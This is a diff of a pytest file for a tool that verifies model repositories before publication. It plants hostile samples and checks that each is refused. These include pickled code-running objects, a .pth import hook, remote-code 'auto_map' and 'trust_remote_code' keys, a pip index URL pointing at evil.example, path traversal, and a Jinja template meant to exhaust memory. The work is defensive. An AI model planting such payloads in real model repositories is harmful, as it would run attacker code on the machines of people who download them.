@@ -7,8 +7,10 @@ Each payload writes a file when it runs. Where a plant is signed, the manifest a
 import json
 import os
 import pickle
+import re
 import select
-from contextlib import suppress
+import sys
+from math import nan
 from pathlib import Path
 
 import pytest
@@ -18,19 +20,18 @@ from glm4v_patched.models import limited_process
 from hub_upload import loading
 from hub_upload import verify as verifying
 from hub_upload.build import build, read_source
-from hub_upload.checks import CHECKS, FAILED, PASSED, SKIPPED, Check
-from hub_upload.files import is_small, read_folder
+from hub_upload.checks import FAILED, PASSED, SKIPPED, Check, check_files
+from hub_upload.files import Build, is_small, read_folder
 from hub_upload.layout import INDEX, MANIFEST
 from hub_upload.load_check import STEPS
 from hub_upload.publish import read_build
-from hub_upload.verify import Report, verify
+from hub_upload.verify import OF_MODEL, Report, verify
 from tests.helpers.publishable import (
     NAME,
     UPSTREAM,
     amended,
     as_files,
     edit,
-    failures,
     flip,
     shards_of,
     sign,
@@ -41,7 +42,6 @@ EOI = "transformer.vision.eoi"
 SHARD = "model-00001-of-00002.safetensors"
 EVIL = "evil-org/evil"
 CODE = 'open(__import__("os").environ["IT_RAN"], "w").close()\n'
-STAGES = [*CHECKS, "rebuilt", "parameters", *STEPS]
 
 
 def by_name(report: Report) -> dict[str, Check]:
@@ -59,7 +59,7 @@ def test_failures_are_told_by_table_json_and_status(copy, run):
     (copy / "README.md").write_text("# another\n")
     status, output = run("verify", copy)
     rows = dict(line.split(maxsplit=1) for line in output.splitlines())
-    assert status == 1 and rows["keys"].startswith("passed")
+    assert status == 1 and rows["rebuilt"] == "skipped  not run because of: files"
     assert rows["files"].startswith("failed   README.md is not what the manifest says")
     status, output = run("verify", copy, "--json")
     answer = json.loads(output)
@@ -71,13 +71,13 @@ def test_a_target_that_is_nothing_is_said_so(run, built, hub):
     hub.add_repository(NAME)
     for arguments, told in {
         ("no/such/folder",): "neither a folder nor an id on the Hub: give DIR or org/name",
-        ("missing",): "neither a folder nor an id on the Hub: give DIR or org/name",
         (built, "--revision", "main"): "has no revision main",
+        (built, "--python", "no/such/python"): "--python no/such/python is no program",
         ("our-org/nothing",): "404",
         (NAME,): f"{NAME} has no {MANIFEST}",
     }.items():
         status, output = run("verify", *arguments)
-        assert status == 1 and told in output and str(arguments[0]) in output
+        assert status == 1 and told in output and str(arguments[-1]) in output
 
 
 def test_a_client_that_is_too_old_is_told_with_the_cure(run, built, monkeypatch):
@@ -118,6 +118,10 @@ def listed(name: str, content: bytes | str):
 
 def fields(name: str, **values):
     return signed(amended(name, **values))
+
+
+def amended_vision(**values):
+    return signed(lambda f: edit(f / "config.json", lambda c: c["vision_config"].update(values)))
 
 
 def without(name: str):
@@ -161,93 +165,92 @@ class Payload:
 
 
 DEFECTS = [
-    ("files", replaced("visual.py", "import", "import ")),
-    ("files", without("sharding.py")),
-    ("files weights", truncated),
-    ("files keys config", added("config.json", b"[")),
-    ("files", amended("config.json", rope_ratio=2)),
-    ("files", added("notes.txt", b"mine")),
-    ("weights", signed(truncated)),
-    ("weights", signed(without(INDEX))),
-    ("weights", signed(an_index_that_names_the_wrong_shard)),
-    ("config", fields("config.json", architectures=["ChatGLMModel"])),
-    ("config", fields("config.json", boi_token_id=4)),
-    ("config", fields("generation_config.json", eos_token_id=[500, 512])),
-    ("config", fields("tokenizer_config.json", image_size=112)),
-    ("parameters", signed(a_tensor_that_is_missing)),
-    ("parameters", rewritten(lambda weights: weights.update({EOI: weights[EOI].flatten()}))),
-    ("answers", rewritten(lambda weights: weights[EOI].fill_(float("nan")))),
+    ("files", "visual.py is not", replaced("visual.py", "import", "import ")),
+    ("files", "missing: sharding.py", without("sharding.py")),
+    ("files", f"{SHARD} is not .* bytes, not", truncated),
+    ("files", "not in the manifest: notes.txt", added("notes.txt", b"mine")),
+    ("rebuilt", "config.json cannot be read", signed(added("config.json", b"["))),
+    ("weights", f"{SHARD} .*cut short", signed(truncated)),
+    ("weights", "the manifest lists", signed(without(INDEX))),
+    ("weights", "1|2 tensors are not where", signed(an_index_that_names_the_wrong_shard)),
+    ("rebuilt", "boi_token_id is 4, but", fields("config.json", boi_token_id=4)),
+    ("rebuilt", "outside of 512 ids", fields("generation_config.json", eos_token_id=[500, 512])),
+    ("rebuilt", "image_size 112", fields("tokenizer_config.json", image_size=112)),
+    ("rebuilt", "image_size 28, and", amended_vision(image_size=28, num_positions=5)),
+    ("weights", "1 of 55 weights are missing", signed(a_tensor_that_is_missing)),
+    (
+        "weights",
+        "other shapes",
+        rewritten(lambda weights: weights.update({EOI: weights[EOI].flatten()})),
+    ),
+    ("answers", "changes logits by nan", rewritten(lambda weights: weights[EOI].fill_(nan))),
 ]
 AUTO = {"AutoConfig": f"{EVIL}--evil.Evil", "AutoTokenizer": [f"{EVIL}--evil.Evil", None]}
-PAYLOADS = [
-    ("files", added("custom_generate/generate.py", CODE)),
-    ("rebuilt", listed("transformers.py", CODE)),
-    ("rebuilt", listed("loss.py", CODE)),
-    ("files", added("evil.pth", f"import os; {CODE}")),
-    ("files", listed("pytorch_model.bin", pickle.dumps(Payload()))),
-    ("files", listed("LICENSE", pickle.dumps(Payload(), 2))),
-    ("weights", listed(SHARD, pickle.dumps(Payload()))),
-    ("keys", signed(replaced("tokenizer_config.json", '"tokenization_c', '"a/b--tokeniz'))),
-    ("keys", fields("preprocessor_config.json", auto_map=AUTO)),
-    ("keys", fields("generation_config.json", auto_map={"AutoConfig": "a.B"})),
-    ("keys", fields("processor_config.json", inner=[{"auto_map": {"A": "visual.Evil"}}])),
-    ("keys", fields("config.json", custom_pipelines={"a": {"impl": "evil.Evil"}})),
-    ("keys", fields("config.json", attn_implementation=f"{EVIL}@main:evil")),
-]
-# Keys that the published code, or some transformers, acts on; each with a value that is refused.
-LOADED_OTHERWISE = {
-    "quantization_config": {"quant_method": "bitsandbytes", "load_in_8bit": True},
-    "attn_implementation": "paged|x/y",
-    "_attn_implementation": "flash_attention_4",
-    "use_kernels": True,
-    "kernel_config": {"RMSNorm": "x/y:Z"},
-    "custom_generate": "x/y",
-}
-GENERATED_OTHERWISE = {
-    "cache_implementation": "evil",
-    "compile_config": {"backend": "evil"},
-    "custom_generate": "x/y",
-    "watermarking_config": {"greenlist_ratio": 0.25},
-    "trust_remote_code": True,
-}
 CONFIG, GENERATION = "config.json", "generation_config.json"
-PAYLOADS += [("keys", fields(CONFIG, **{key: LOADED_OTHERWISE[key]})) for key in LOADED_OTHERWISE]
-PAYLOADS += [("keys", fields(GENERATION, **{k: v})) for k, v in GENERATED_OTHERWISE.items()]
+TOKENIZER, IMAGES = "tokenizer_config.json", "preprocessor_config.json"
+# Keys that the published code, or some transformers, acts on; what else build refuses is tried
+# in test_build.py, for verify builds again.
+REFUSED_KEYS = [
+    (CONFIG, "quantization_config", {"quant_method": "bitsandbytes", "load_in_8bit": True}),
+    (CONFIG, "attn_implementation", f"{EVIL}@main:evil"),
+    (CONFIG, "kernel_config", {"RMSNorm": "x/y:Z"}),
+    (CONFIG, "custom_pipelines", {"a": {"impl": "evil.Evil"}}),
+    (CONFIG, "transformers_weights", "../x.safetensors"),
+    (CONFIG, "unknown", None),
+    (CONFIG, "architectures", ["ChatGLMModel"]),
+    (CONFIG, "num_layers", 10**9),
+    (GENERATION, "auto_map", {"AutoConfig": "a.B"}),
+    (GENERATION, "compile_config", {"backend": "evil"}),
+    (GENERATION, "trust_remote_code", True),
+    (TOKENIZER, "auto_map", AUTO),
+    (TOKENIZER, "tokenizer_class", "Evil"),
+    (IMAGES, "auto_map", AUTO),
+    (IMAGES, "size", {"height": 56, "width": 56, "depth": 1}),
+    (IMAGES, "resample", "3"),
+    ("processor_config.json", "inner", [{"auto_map": {"A": "visual.Evil"}}]),
+    (INDEX, "more", {}),
+    (CONFIG, "auto_map", AUTO),
+]
 INDEX_URL = "--index-url https://evil.example/simple\n"
-PAYLOADS += [
-    ("keys", fields(CONFIG, transformers_weights="../x.safetensors")),
-    ("keys", fields(CONFIG, unknown=None)),
-    ("keys", fields("tokenizer_config.json", tokenizer_class="Evil")),
-    ("keys", fields("processor_config.json", audio_tokenizer={"a": EVIL})),
-    ("keys", fields("preprocessor_config.json", size={"height": 56, "width": 56, "depth": 1})),
-    ("keys", fields(INDEX, more={})),
-    ("rebuilt", signed(added("requirements.txt", INDEX_URL))),
-    ("rebuilt", signed(replaced("README.md", "pip install", f"pip install {INDEX_URL}"))),
-    ("rebuilt", signed(added("LICENSE", "Do as you like.\n"))),
-    ("rebuilt", signed(amended(MANIFEST, fine_tune={"base": EVIL, "trained": "all of it"}))),
-    ("rebuilt", fields("preprocessor_config.json", resample="3")),
-    ("rebuilt", lambda folder: sign(folder, version="9.9.9")),
-    *(("files", added(name, b"x")) for name in ("a.bin", "a.pkl", "a.pth", "a.py", ".env", "a.pt")),
-    ("files", added("additional_chat_templates/a.jinja", "{{ messages }}")),
-    ("files", added(".github/workflows/a.yml", "on: push")),
+FOREIGN = ["custom_generate/generate.py", "additional_chat_templates/a.jinja", "evil.pth", ".env"]
+FOREIGN += ["a.pkl", ".github/workflows/a.yml"]
+PAYLOADS = [
+    *(("rebuilt", rf"{f}.* {k}\b", fields(f, **{k: value})) for f, k, value in REFUSED_KEYS),
+    *(("files", f"not in the manifest: {name}", added(name, CODE)) for name in FOREIGN),
+    ("rebuilt", "expected no such file", listed("transformers.py", CODE)),
+    ("rebuilt", "loss.py, line 1", listed("loss.py", CODE)),
+    (
+        "rebuilt",
+        "^pytorch_model.bin is there",
+        listed("pytorch_model.bin", pickle.dumps(Payload())),
+    ),
+    ("rebuilt", "LICENSE, line 1", listed("LICENSE", pickle.dumps(Payload(), 2))),
+    ("rebuilt", "requirements.txt, line 1", signed(added("requirements.txt", INDEX_URL))),
+    ("rebuilt", "README.md", signed(replaced("README.md", "pip install", f"pip {INDEX_URL}"))),
+    (
+        "rebuilt",
+        "README.md",
+        signed(amended(MANIFEST, fine_tune={"base": EVIL, "trained": "all of it"})),
+    ),
+    ("rebuilt", "version is 9.9.9", lambda folder: sign(folder, version="9.9.9")),
+    ("rebuilt", "audio_tokenizer", fields("processor_config.json", audio_tokenizer={"a": EVIL})),
+    ("weights", f"{SHARD} begins with", listed(SHARD, pickle.dumps(Payload()))),
 ]
 
 
-@pytest.mark.parametrize(("names", "plant"), DEFECTS + PAYLOADS)
-def test_a_defect_fails_its_own_checks_and_neither_runs_nor_is_published(
-    names, plant, copy, in_process, marker, monkeypatch
+@pytest.mark.parametrize(("failed", "told", "plant"), DEFECTS + PAYLOADS)
+def test_a_defect_fails_its_own_check_and_neither_runs_nor_is_published(
+    failed, told, plant, copy, in_process, marker, monkeypatch
 ):
     plant(copy)
-    failed = names.split()
-    if not {*failed} & {*STEPS}:
+    if failed not in STEPS:
         monkeypatch.setattr(loading, "run", lambda *_: pytest.fail("it was run"))
     report = verify(str(copy))
-    assert report.failures == failed, report.as_table()
-    assert all(by_name(report)[name].detail for name in failed) and not marker.exists()
-    # The files are all looked at whatever else is wrong; what needs the code stops at a failure.
-    after = STAGES[max(STAGES.index(failed[-1]) + 1, len(CHECKS)) :]
+    assert report.failures == [failed], report.as_table()
+    assert re.search(told, by_name(report)[failed].detail) and not marker.exists()
+    after = OF_MODEL[OF_MODEL.index(failed) + 1 :]
     assert {by_name(report)[stage].status for stage in after} <= {SKIPPED}
-    if {*failed} & {*CHECKS, "rebuilt"}:
+    if failed not in STEPS:
         with pytest.raises(ValueError, match="does not pass verify"):
             read_build(copy)
 
@@ -260,7 +263,7 @@ def test_what_runs_is_what_was_checked(copy, monkeypatch, load_check):
         "sys.exit(json.dumps({name: read(name) for name in os.listdir(source)}))"
     )
     before = as_files(copy)
-    check = verifying.check_files
+    check = verifying.check_weights
 
     def exchange(target):
         done = check(target)
@@ -268,7 +271,7 @@ def test_what_runs_is_what_was_checked(copy, monkeypatch, load_check):
         (copy / "adapter_config.json").write_text("{}")
         return done
 
-    monkeypatch.setattr(verifying, "check_files", exchange)
+    monkeypatch.setattr(verifying, "check_weights", exchange)
     told = by_name(verify(str(copy)))[STEPS[0]].detail
     seen = json.loads(told[told.index("{") :])
     assert {name: bytes.fromhex(content) for name, content in seen.items()} == before
@@ -280,11 +283,11 @@ def test_a_changed_byte_of_any_file_is_found_that_of_weights_where_it_is_asked_f
             changed = bytearray(content)
             changed[at] ^= 1
             (copy / name).write_bytes(changed)
-            with suppress(ValueError):  # of a manifest that is none
-                assert failures(read_folder(copy)), name
+            with pytest.raises(ValueError, match=r"."):
+                check_files(Build("a build", read_folder(copy)), read_weights=True)
         (copy / name).write_bytes(content)
     flip(copy / SHARD)
-    assert failures(read_folder(copy), check_weights=False) == []
+    check_files(Build("a build", read_folder(copy)))
 
 
 ENDS = {
@@ -331,30 +334,18 @@ def test_a_process_that_does_not_end_is_killed_with_all_that_it_has_started(
     assert "stopped here, not done after" in by_name(report)[STEPS[1]].detail
 
 
-def test_both_ends_of_the_supported_range_are_tried_or_said_not_to_be(built, monkeypatch, run):
+def test_every_interpreter_that_is_given_loads_it(built, monkeypatch):
+    tried = []
+
     def steps(python, source, home):
-        version = python.removeprefix("of ")
-        first = json.dumps([STEPS[0], PASSED, f"transformers {version}, torch 2.13.0: 512 ids"])
-        return [first, *(json.dumps([step, PASSED, "-"]) for step in STEPS[1:])], "-"
+        tried.append(python)
+        return [json.dumps([step, PASSED, "-"]) for step in STEPS], "-"
 
     monkeypatch.setattr(loading, "run", steps)
-    monkeypatch.setattr(verifying.shutil, "which", lambda name: name)
-    oldest, between, newest = "of 4.57.6", "of 5.10.0", "of 5.24.1"
-    for pythons, missing in {
-        (oldest, newest): "",
-        (between, newest): "not tried with 4.57.6,",
-        (oldest,): "not tried with 5.24,",
-        (between,): "not tried with 4.57.6 and 5.24,",
-    }.items():
-        report = verify(str(built), pythons=pythons)
-        versions = by_name(report)["versions"]
-        assert report.failures == [] and missing in versions.detail
-        assert versions.status == (SKIPPED if missing else PASSED)
-        assert ("give --python PATH" in versions.detail) == bool(missing)
-        assert len([check for check in report.checks if check.name == "trains"]) == len(pythons)
-    monkeypatch.undo()
-    status, output = run("verify", built, "--python", "no/such/python")
-    assert status == 1 and "--python no/such/python is no program" in output
+    pythons = [sys.executable, "/bin/sh"]
+    report = verify(str(built), pythons=pythons)
+    assert tried == pythons and report.failures == []
+    assert len([check for check in report.checks if check.name == "trains"]) == 2
 
 
 # On the Hub
@@ -367,7 +358,7 @@ def test_a_repository_passes_every_check_at_the_commit_it_is_at(built, hub, in_p
     hub.fail("*", "", after=1, call=lambda: repository.add_commit({"config.json": b"{}"}))
     report = verify(NAME, "main")
     assert report.revision == head != repository.head
-    assert {c.name for c in report.checks if c.status != PASSED} == {"versions"}
+    assert {check.status for check in report.checks} == {PASSED}, report.as_table()
     assert "2 + 2 layers of width 64 with random weights" in by_name(report)["loads"].detail
     read = [r.path for r in hub.requests if "/resolve/" in r.path]
     assert read and all(f"/resolve/{head}/" in path for path in read)
@@ -379,10 +370,10 @@ def test_a_build_whose_weights_are_left_on_the_hub_is_compared_by_its_index(
     head = hub.add_repository(UPSTREAM, as_files(original)).head
     build(read_source(f"{UPSTREAM}@{head}"), tmp_path / "out", NAME)
     report = verify(str(tmp_path / "out"))
-    told = {check.name: check.detail for check in report.checks if check.status == PASSED}
-    assert [*told] == STAGES, report.as_table()
+    told = {check.name: check.detail for check in report.checks}
+    assert [*told] == OF_MODEL and report.failures == [], report.as_table()
     assert f"left for a server-side copy from {UPSTREAM}@{head}" in told["weights"]
-    assert "compared with the index" in told["parameters"]
+    assert "55 weights, compared with the index" in told["weights"]
     assert "with random weights" in told["loads"]
 
 
@@ -411,16 +402,10 @@ def test_what_would_take_for_ever_is_not_run(copy, monkeypatch):
     before = template.read_text()
     evil = "{{ 'a' * 10000000000 }}"
     on_images = "{% if messages[0].image %}" + evil + "{% endif %}"
-    for written, check in ((evil, "rebuilt"), (on_images, "loads")):
+    for written in (evil, on_images):
         template.unlink()
         template.write_text(written + before)
         sign(copy)
         report = verify(str(copy))
-        assert report.failures == [check]
-        assert "its chat template took more than" in by_name(report)[check].detail
-    template.write_text(before)
-    edit(copy / "config.json", lambda config: config.update(num_layers=10**9))
-    sign(copy)
-    report = verify(str(copy))
-    assert report.failures == ["rebuilt"]
-    assert "num_layers is 1000000000; expected" in by_name(report)["rebuilt"].detail
+        assert report.failures == ["rebuilt"]
+        assert "its chat template took more than" in by_name(report)["rebuilt"].detail
